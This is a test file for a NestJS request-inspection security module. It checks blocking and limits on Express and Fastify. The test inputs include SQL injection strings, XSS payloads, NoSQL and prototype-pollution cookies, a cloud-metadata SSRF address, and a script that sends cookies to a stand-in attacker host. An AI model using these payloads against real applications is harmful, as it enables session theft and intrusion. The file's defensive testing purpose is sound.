import {
  Body,
  Controller,
  Get,
  HttpCode,
  Post,
  UploadedFile,
  UseInterceptors,
  type INestApplication,
} from '@nestjs/common';
import { ExpressAdapter, FileInterceptor as ExpressFileInterceptor } from '@nestjs/platform-express';
import { FastifyAdapter } from '@nestjs/platform-fastify';
import { FileInterceptor as FastifyFileInterceptor } from '@nestjs/platform-fastify/multipart';
import { Test } from '@nestjs/testing';
import { RampartCoreModule, SecurityEvents, useRequestContext, type SecurityEvent } from '@rampart/core';
import { ErrorsModule } from '@rampart/errors';
import {
  ThreatModule,
  ThreatMultipartInterceptor,
  ThreatPolicy,
  useThreatDetection,
  type ThreatModuleOptions,
} from '@rampart/threat';
import type { Server } from 'node:http';
import request from 'supertest';
import { afterEach, describe, expect, it } from 'vitest';
import { bearer } from './utils/auth';
import { CapturingLogger, PLATFORMS, startApp } from './utils/test-app';
import type { Platform } from '../apps/sample-api/src/app.factory';

/**
 * The inspection engine behind the guard on a small app of its own (core, errors, threat, one
 * controller) with each platform's own body parsing: no validation lib in front, so what is
 * refused here is refused by the threat module alone.
 */
@Controller('inspect')
class InspectedController {
  @Post('echo')
  @HttpCode(200)
  echo(@Body() body: unknown): { ok: true; type: string } {
    return { ok: true, type: typeof body };
  }
}

/** Uploads, with the platform's own file interceptor followed by the threat module's. */
function uploadController(fileInterceptor: (field: string) => unknown): new () => object {
  @Controller('inspect')
  class UploadController {
    @Post('upload')
    @HttpCode(200)
    @UseInterceptors(fileInterceptor('file') as never, ThreatMultipartInterceptor)
    upload(@UploadedFile() file: { originalname: string } | undefined, @Body() body: unknown): object {
      return { ok: true, file: file?.originalname, fields: Object.keys(body ?? {}) };
    }

    @Post('upload-code')
    @HttpCode(200)
    @ThreatPolicy({ ignore: ['body.snippet'] })
    @UseInterceptors(fileInterceptor('file') as never, ThreatMultipartInterceptor)
    uploadCode(@Body() body: unknown): object {
      return { ok: true, fields: Object.keys(body ?? {}) };
    }

    @Get('ping')
    ping(): { ok: true } {
      return { ok: true };
    }
  }
  return UploadController;
}

const SQLI = "1' UNION SELECT password FROM users--";

interface Booted {
  app: INestApplication;
  server: Server;
  events: SecurityEvent[];
}
const apps: INestApplication[] = [];

async function boot(platform: Platform, threat: ThreatModuleOptions = {}): Promise<Booted> {
  const moduleRef = await Test.createTestingModule({
    imports: [
      RampartCoreModule.forRoot({ logEvents: false }),
      ErrorsModule.forRoot({}),
      ThreatModule.forRoot({ mode: 'block', behaviour: { enabled: false }, ...threat }),
    ],
    controllers: [
      InspectedController,
      uploadController(platform === 'fastify' ? FastifyFileInterceptor : ExpressFileInterceptor),
    ],
  }).compile();
  const app = moduleRef.createNestApplication(platform === 'fastify' ? new FastifyAdapter() : new ExpressAdapter(), {
    logger: new CapturingLogger(),
  });
  useRequestContext(app);
  useThreatDetection(app);
  await app.init();
  if (platform === 'fastify') await (app.getHttpAdapter().getInstance() as { ready(): Promise<unknown> }).ready();
  apps.push(app);
  const events: SecurityEvent[] = [];
  app.get(SecurityEvents).subscribe((event) => events.push(event));
  return { app, server: app.getHttpServer() as Server, events };
}

afterEach(async () => {
  await Promise.all(apps.splice(0).map((app) => app.close()));
});

function nested(depth: number, leaf: unknown): object {
  let value: unknown = leaf;
  for (let i = 0; i < depth; i++) value = { d: value };
  return value as object;
}

describe.each(PLATFORMS)('threat inspection bounds (%s)', (platform) => {
  it('refuses a payload behind 10 000 filler strings with 413, without banning, and reports it', async () => {
    const t = await boot(platform, { mode: 'ban' });
    const body = { items: Array.from({ length: 10_000 }, () => 'x'), comment: SQLI };
    const res = await request(t.server).post('/inspect/echo').send(body);
    expect(res.status).toBe(413);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(res.body).toMatchObject({ code: 'PAYLOAD_TOO_LARGE', status: 413 });
    expect(res.text).not.toMatch(/union|select/i);
    const event = t.events.find((e) => e.type === 'threat.detected');
    expect(event).toMatchObject({ reason: 'inspection_limit', details: { decision: 'refused' } });
    // Too large to inspect is no proof of an attack: the client is not banned.
    expect(t.events.some((e) => e.type === 'client.banned')).toBe(false);
    await request(t.server).post('/inspect/echo').send({ ok: 1 }).expect(200);
  });

  it('refuses a payload 33 levels deep in block mode', async () => {
    const t = await boot(platform);
    const res = await request(t.server).post('/inspect/echo').send(nested(33, SQLI));
    expect(res.status).toBe(413);
    expect(res.body.code).toBe('PAYLOAD_TOO_LARGE');
  });

  it('still answers 403 THREAT_DETECTED when an attack is found before the bound', async () => {
    const t = await boot(platform);
    const body = { comment: SQLI, items: Array.from({ length: 10_000 }, () => 'x') };
    const res = await request(t.server).post('/inspect/echo').send(body);
    expect(res.status).toBe(403);
    expect(res.body.code).toBe('THREAT_DETECTED');
  });

  it('lets a deep or large request through when the policy says so, and in monitor mode', async () => {
    const lenient = await boot(platform, { beyondLimits: 'ignore' });
    await request(lenient.server).post('/inspect/echo').send(nested(40, 'fine')).expect(200);
    const monitored = await boot(platform, { mode: 'monitor' });
    await request(monitored.server).post('/inspect/echo').send(nested(40, SQLI)).expect(200);
    expect(monitored.events.find((e) => e.type === 'threat.detected')?.details).toMatchObject({
      decision: 'monitored',
    });
    const within = await boot(platform);
    await request(within.server).post('/inspect/echo').send(nested(31, 'fine')).expect(200);
  });
});

describe.each(PLATFORMS)('threat inspection blind spots (%s)', (platform) => {
  it('inspects multipart fields and file names behind the file interceptor', async () => {
    const t = await boot(platform);
    const file = Buffer.from('hello');
    const clean = await request(t.server)
      .post('/inspect/upload')
      .field('title', 'Quarterly report (draft)')
      .attach('file', file, 'report.txt');
    expect(clean.status).toBe(200);
    expect(clean.body).toMatchObject({ file: 'report.txt', fields: ['title'] });
    const field = await request(t.server)
      .post('/inspect/upload')
      .field('title', SQLI)
      .attach('file', file, 'report.txt');
    expect(field.status).toBe(403);
    expect(field.body.code).toBe('THREAT_DETECTED');
    const event = t.events.find((e) => e.type === 'threat.detected');
    expect((event?.details?.findings as { location: string }[])[0]?.location).toBe('body.title');
    const name = await request(t.server)
      .post('/inspect/upload')
      .field('title', 'ok')
      .attach('file', file, '"><img src=x onerror=alert(1)>.txt');
    expect(name.status).toBe(403);
    // The route policy applies to multipart fields as to JSON ones.
    await request(t.server)
      .post('/inspect/upload-code')
      .field('snippet', "SELECT * FROM users WHERE name = '' OR 1=1 --")
      .attach('file', file, 'a.sql')
      .expect(200);
  });

  it('refuses NoSQL operators and prototype pollution in j: JSON cookies', async () => {
    const t = await boot(platform);
    const operator = await request(t.server)
      .get('/inspect/ping')
      .set('Cookie', `session=j%3A${encodeURIComponent('{"user":{"$ne":null}}')}`);
    expect(operator.status).toBe(403);
    const polluted = await request(t.server)
      .get('/inspect/ping')
      .set('Cookie', `prefs=j:${encodeURIComponent('{"__proto__":{"isAdmin":true}}')}`);
    expect(polluted.status).toBe(403);
    await request(t.server)
      .get('/inspect/ping')
      .set('Cookie', `prefs=j%3A${encodeURIComponent('{"theme":"dark","lang":"fr"}')}`)
      .expect(200);
  });

  it('refuses the metadata service in X-Forwarded-Host and custom headers, not internal names a proxy sets', async () => {
    const t = await boot(platform);
    await request(t.server).get('/inspect/ping').set('X-Forwarded-Host', '169.254.169.254').expect(403);
    await request(t.server).get('/inspect/ping').set('X-Callback-Url', 'http://169.254.169.254/latest/').expect(403);
    await request(t.server).get('/inspect/ping').set('X-Forwarded-Host', 'localhost:3000').expect(200);
  });

  it('inspects JSON:API and GraphQL bodies (Express reads them for the guard; Fastify parses or refuses them first)', async () => {
    const t = await boot(platform);
    const attack = JSON.stringify({ data: { type: 'articles', attributes: { title: SQLI } } });
    const jsonApi = await request(t.server)
      .post('/inspect/echo')
      .set('Content-Type', 'application/vnd.api+json')
      .send(attack);
    expect([403, 415]).toContain(jsonApi.status);
    const graphql = await request(t.server)
      .post('/inspect/echo')
      .set('Content-Type', 'application/graphql')
      .send(`{ user(name: "${SQLI}") { id } }`);
    expect([403, 415]).toContain(graphql.status);
    if (platform === 'express') {
      expect(jsonApi.status).toBe(403);
      expect(graphql.status).toBe(403);
      // A clean JSON:API body still reaches the handler, parsed.
      const clean = await request(t.server)
        .post('/inspect/echo')
        .set('Content-Type', 'application/vnd.api+json')
        .send(JSON.stringify({ data: { type: 'articles', attributes: { title: 'Rust or Go (2024)?' } } }));
      expect(clean.status).toBe(200);
      expect(clean.body.type).toBe('object');
      await request(t.server)
        .post('/inspect/echo')
        .set('Content-Type', 'application/vnd.api+json')
        .send('{not json')
        .expect(400);
    }
  });
});

describe.each(PLATFORMS)('per-field policy in the sample API (%s)', (platform) => {
  const closing: (() => Promise<void>)[] = [];
  afterEach(async () => {
    await Promise.all(closing.splice(0).map((close) => close()));
  });

  it('stores a <script> in a @RichText field sanitised (block mode), and refuses it in a plain query parameter', async () => {
    const t = await startApp(platform, { threat: { mode: 'block' } });
    closing.push(() => t.close());
    const auth = await bearer(t.app, 'u-alice');
    const payload = '<p>Hello <b>team</b></p><script>alert(document.cookie)</script>';
    const created = await request(t.server).post('/notes').set(auth).send({ title: 'Stand-up', body: payload });
    expect(created.status).toBe(201);
    expect(created.body.body).toContain('<b>team</b>');
    expect(created.body.body).not.toMatch(/script|alert/i);
    // The same payload in the title (a @PlainText field): no exemption there, refused.
    const title = await request(t.server).post('/notes').set(auth).send({ title: payload, body: 'x' });
    expect(title.status).toBe(403);
    // Rich text is exempt from XSS only: SQL injection in it is still refused.
    const sqli = await request(t.server).post('/notes').set(auth).send({ title: 'x', body: SQLI });
    expect(sqli.status).toBe(403);
    const query = await request(t.server)
      .get(`/notes?q=${encodeURIComponent(payload)}`)
      .set(auth);
    expect(query.status).toBe(403);
    expect(query.body.code).toBe('THREAT_DETECTED');
  });

  it('applies the policy in nested DTOs: a <script> in blocks[].html (@RichText) is stored sanitised, in blocks[].heading or the query it is refused', async () => {
    const t = await startApp(platform, { threat: { mode: 'block' } });
    closing.push(() => t.close());
    const auth = await bearer(t.app, 'u-alice');
    const payload = '<p>Agenda: <em>ship it</em></p><script>fetch("//evil.example/?c="+document.cookie)</script>';
    const note = (blocks: object[]) =>
      request(t.server).post('/notes').set(auth).send({ title: 'Retro', body: 'x', blocks });

    const created = await note([
      { heading: 'Intro', html: '<b>plain</b>' },
      { heading: 'Agenda', html: payload },
    ]);
    expect(created.status).toBe(201);
    expect(created.body.blocks).toHaveLength(2);
    expect(created.body.blocks[1].heading).toBe('Agenda');
    expect(created.body.blocks[1].html).toContain('<em>ship it</em>');
    expect(created.body.blocks[1].html).not.toMatch(/script|fetch|cookie/i);

    // The same payload in the block's @PlainText heading: inspected for everything, refused.
    const heading = await note([{ heading: payload, html: 'x' }]);
    expect(heading.status).toBe(403);
    expect(heading.body.code).toBe('THREAT_DETECTED');
    // The nested rich-text field is exempt from XSS only: SQL injection in it is refused.
    expect((await note([{ heading: 'Agenda', html: SQLI }])).status).toBe(403);
    // The exemption is for that path only: the payload in a query parameter is refused.
    const query = await request(t.server)
      .post(`/notes?ref=${encodeURIComponent(payload)}`)
      .set(auth)
      .send({ title: 'Retro', body: 'x', blocks: [{ heading: 'Agenda', html: 'x' }] });
    expect(query.status).toBe(403);
    expect(query.body.code).toBe('THREAT_DETECTED');
  });
});
